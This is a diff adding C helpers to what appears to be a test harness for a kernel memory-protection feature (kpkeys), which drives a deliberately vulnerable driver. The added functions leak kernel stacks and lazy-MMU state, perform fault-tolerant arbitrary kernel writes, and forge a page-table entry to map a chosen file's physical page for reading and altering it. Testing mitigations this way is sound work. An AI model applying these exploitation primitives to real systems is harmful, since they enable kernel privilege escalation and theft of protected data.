@@ -132,6 +132,39 @@ u64 vuln_read(u64 addr)
 	return w.value;
 }
 
+/* The kernel stack of a task, see the driver's header. */
+struct kpkeys_vuln_frame vuln_frame(int pid)
+{
+	struct kpkeys_vuln_frame f = { .pid = pid };
+
+	vuln_ioctl(KPKEYS_VULN_FRAME, &f, "leaking a kernel stack");
+	return f;
+}
+
+/* Where the depth of this task's lazy MMU sections is counted. */
+u64 vuln_lazy(void)
+{
+	u64 addr;
+
+	vuln_ioctl(KPKEYS_VULN_LAZY, &addr, "leaking the lazy MMU state");
+	return addr;
+}
+
+/* Writes that tolerate faults; returns whether none was refused. */
+bool vuln_writes(struct kpkeys_vuln_write *list, size_t count)
+{
+	struct kpkeys_vuln_writes l = {
+		.list = (uintptr_t)list,
+		.count = count,
+	};
+
+	if (!ioctl(FD_VULN, KPKEYS_VULN_WRITES, &l))
+		return true;
+	if (errno != EACCES)
+		die_errno("arbitrary writes");
+	return false;
+}
+
 void vuln_obj(unsigned long cmd, struct kpkeys_vuln_obj *obj)
 {
 	vuln_ioctl(cmd, obj, "using the driver's object");
@@ -211,6 +244,35 @@ void sync_between(char *before, char *after)
 	close(fds[0]);
 	close(fds[1]);
 	flush_tlb();
+}
+
+/* @path is what the entry is to map in the end. */
+struct own_page own_page(const char *path)
+{
+	u64 secret = vuln_file_phys(path);
+	struct kpkeys_vuln_entry e;
+	long size = page_size();
+	struct own_page page;
+
+	page.start = (char *)map_pages(NULL, 3 * size) + size;
+	*page.start = 1;
+	e = vuln_entry(KPKEYS_VULN_SELF, page.start, KPKEYS_VULN_PTE);
+	page.addr = e.addr;
+	page.value = e.value | vuln_info()->sync;
+	page.forged = secret | vuln_info()->pte_user;
+	return page;
+}
+
+void own_page_sync(const struct own_page *page)
+{
+	sync_between(page->start - page_size(), page->start + page_size());
+}
+
+/* With the entry forged. It has to be as it was before the process ends. */
+void own_page_use(const struct own_page *page)
+{
+	own_page_sync(page);
+	steal_and_alter(page->start);
 }
 
 bool is_token(const char *text)
